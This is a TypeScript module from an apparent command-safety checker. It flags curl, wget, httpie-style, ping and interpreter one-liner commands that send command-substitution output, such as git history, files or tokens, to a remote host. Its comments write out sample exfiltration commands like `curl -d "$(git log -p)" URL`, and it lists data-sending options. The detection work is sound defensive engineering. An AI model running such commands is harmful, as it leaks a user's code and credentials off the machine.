import { ownEntry } from "../../core/index.ts";
/**
 * A command substitution's output sent as a request's data (docs/adr/0401): `curl -d "$(git log -p)" URL`, `wget
 * --post-data="$(cat src/app.py)" URL`, `xh post URL body="$(base64 < notes.txt)"`, or spliced into the URL itself
 * (`curl "https://h/?q=$(cat .git/config)"`, docs/adr/0808). The data is whatever the
 * substitution prints; when a command in it reads local data (a file, the repository, the environment, unknown
 * code), that data leaves the machine. A substitution that prints only what it is told (`$(date +%s)`, `$(jq -n
 * …)`, `$(cat <<EOF … EOF)`) sends nothing of the machine's.
 */
import type { SimpleCommand } from "../shell/index.ts";
import type { CommandEffect } from "./classify-command.ts";
import { commandWords } from "./command-words.ts";
import { programKnowledge } from "./knowledge/index.ts";
import { oneLiner } from "./script-operands.ts";
import { isLocalUrl } from "./sent-content.ts";

/** The options whose value is a request's data, headers or form fields. */
const DATA_OPTIONS: Readonly<Record<string, readonly string[]>> = {
  curl: [
    "-d",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "--json",
    "-H",
    "--header",
    "--url-query",
    "--expand-data",
    "--expand-url",
    "--expand-header",
    "-A",
    "--user-agent",
    "-e",
    "--referer",
    "-b",
    "--cookie",
    // A credential read from a file (`-u "$(cat token.txt):"`) is sent as a header is (docs/adr/0542).
    "-u",
    "--user",
    "--oauth2-bearer",
  ],
  wget: [
    ...["--post-data", "--body-data", "--header", "-U", "--user-agent", "--referer"],
    ...["--user", "--password", "--http-user", "--http-password"],
  ],
  // ping's pattern fills every ICMP packet's payload: 16 bytes of data per packet to the host (docs/adr/0831).
  ping: ["-p"],
  ping6: ["-p"],
};
/** httpie-style clients: the items after `[METHOD] URL` are the request's data. */
const ITEM_CLIENTS: ReadonlySet<string> = new Set(["http", "https", "xh", "xhs", "httpie", "curlie"]);
const METHOD = /^(?:get|head|post|put|patch|delete|options)$/i;
const SUBSTITUTION = /\$\(|`/;

/** Whether a network client sends a command substitution's output as its request data. */
export function sendsSubstitution(cmd: SimpleCommand): boolean {
  return sendsMatching(cmd, SUBSTITUTION);
}

/**
 * Whether a network client sends a word holding `pattern` as request data: a data, header or form option's value,
 * an httpie item, a `--url`, and with `spliced` a URL operand whose text before the match passes it. Substitutions
 * in URL operands are judged for any program by splicedUrlHost (docs/adr/0808).
 */
export function sendsMatching(cmd: SimpleCommand, pattern: RegExp, spliced?: (before: string) => boolean): boolean {
  if (!cmd.dynamicArgs) return false;
  const program = programKnowledge(cmd.program);
  if (program === undefined) return false;
  const w = commandWords(cmd, program);
  const options = ownEntry(DATA_OPTIONS, cmd.program);
  // A URL carries what is spliced into it as much as a body does: `curl "https://h/?q=$l"`.
  const splice = (v: string): boolean => pattern.test(v) && (spliced?.(v.split(pattern)[0]!) ?? true);
  if (options !== undefined)
    return (
      options.some((o) => (w.options.get(o) ?? []).some((v) => pattern.test(v))) ||
      (w.options.get("--url") ?? []).some(splice) ||
      (spliced !== undefined && w.positionals.some(splice))
    );
  if (!ITEM_CLIENTS.has(cmd.program)) return false;
  const start = METHOD.test(w.positionals[0] ?? "") ? 2 : 1;
  return w.positionals.slice(start).some((v) => pattern.test(v));
}

/**
 * An address written with its host and a substitution spliced into it (`curl "https://h/?q=$(cat f)"`, `git clone
 * "https://h/$(base64 < f)"`, docs/adr/0808): whatever program opens it sends that text to the host. The host, or
 * null when no operand is one or the host is this machine.
 */
export function splicedUrlHost(cmd: SimpleCommand): string | null {
  if (!cmd.dynamicArgs) return null;
  for (const a of cmd.args) {
    const at = a.search(SUBSTITUTION);
    const host = at < 0 ? null : remoteHostBefore(a.slice(0, at));
    if (host !== null) return host;
  }
  return oneLinerSends(cmd, SUBSTITUTION);
}

/** A written address in code: `"https://h.example/?q="`, `'wss://h:8080'`. */
const CODE_URL = /[a-z][a-z0-9+.-]*:\/\/[^\s'"`<>()]+/gi;

/** The remote hosts code writes in its addresses (`fetch("https://h.example/?q="+…)` → h.example), in order. */
export function codeHosts(code: string): string[] {
  return [...code.matchAll(CODE_URL)].map((m) => remoteHostBefore(`${m[0]}/`)).filter((h): h is string => h !== null);
}

/**
 * An interpreter one-liner whose code writes a remote address and is handed a word holding `pattern` as an
 * argument (`node -e 'fetch("https://h/?"+process.argv[1])' "$l"`, `python3 -c '…urlopen("https://h/?"+sys.argv[1])'
 * "$(cat f)"`, docs/adr/0831). The code may splice its arguments anywhere, so fail closed: what the argument holds
 * goes to that host. Code with no written host (a link checker handed each URL) sends nothing by itself. The host,
 * or null.
 */
export function oneLinerSends(cmd: SimpleCommand, pattern: RegExp): string | null {
  const inline = oneLiner(cmd);
  if (inline === null || inline.code.dynamic) return null;
  const host = codeHosts(inline.code.value)[0];
  if (host === undefined) return null;
  const code = inline.code.value;
  return cmd.args.some((a) => a !== code && pattern.test(a)) ? host : null;
}

/**
 * The host of an address written out before a spliced part (`https://h.example/?q=` → h.example), or null when the
 * text is no `scheme://host…` start or names this machine. One reading for substitutions (0808) and lines (0809).
 */
export function remoteHostBefore(literal: string): string | null {
  const host = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/?#]*@)?([^:/?#]+)[:/?#]/i.exec(literal)?.[1];
  return host === undefined || isLocalUrl(literal) ? null : host;
}

/** git subcommands that print the repository's content: history, changes, files, packs, stashes, notes. */
const GIT_CONTENT: ReadonlySet<string> = new Set([
  "log",
  "show",
  "diff",
  "cat-file",
  "archive",
  "bundle",
  "format-patch",
  "blame",
  "annotate",
  "grep",
  "ls-files",
  "ls-tree",
  "stash",
  "whatchanged",
  "reflog",
  "shortlog",
  "notes",
  "range-diff",
  "config",
  "credential",
  "remote",
]);
/** JSON builders whose `-n` reads no input at all. */
const JSON_BUILDERS: ReadonlySet<string> = new Set(["jq", "gojq", "jaq"]);
/** Programs that only print what they are given when they read no file: JSON built from nothing, a heredoc copied. */
const PRINTERS: ReadonlySet<string> = new Set(["cat", "jq", "gojq", "yq", "base64", "tr", "head", "tail", "envsubst"]);

/**
 * Whether a command inside a substitution reads data of this machine: a file it names, the repository or any other
 * local state (`git log`), a credential or the environment, or code nobody read. A printer of known or no input
 * (`jq -n …`, `cat <<EOF`) does not.
 */
export function readsLocalData(cmd: SimpleCommand, e: CommandEffect): boolean {
  // `jq -n --arg n x '{…}'` reads no input (its operands would be, but -n ignores them); `--rawfile` still reads.
  if (JSON_BUILDERS.has(cmd.program) && cmd.args.some((a) => a === "-n" || a === "--null-input"))
    return cmd.args.some((a) => a === "--rawfile" || a === "--slurpfile");
  // git's names for a state (`rev-parse HEAD`, `describe`, `branch --show-current`) are no content; its logs,
  // diffs, files and packs are.
  if (cmd.program === "git" && !e.accesses.some((a) => a.mode === "read"))
    return GIT_CONTENT.has(cmd.args.find((a) => !a.startsWith("-")) ?? "") || e.types.includes("credential_access");
  if (e.accesses.some((a) => a.mode === "read")) return true;
  if (e.types.some((t) => t === "credential_access" || t === "read_sensitive" || t === "execute")) return true;
  if (!e.types.includes("read_local")) return false;
  return !(PRINTERS.has(cmd.program) && typeof cmd.stdin?.text === "string");
}
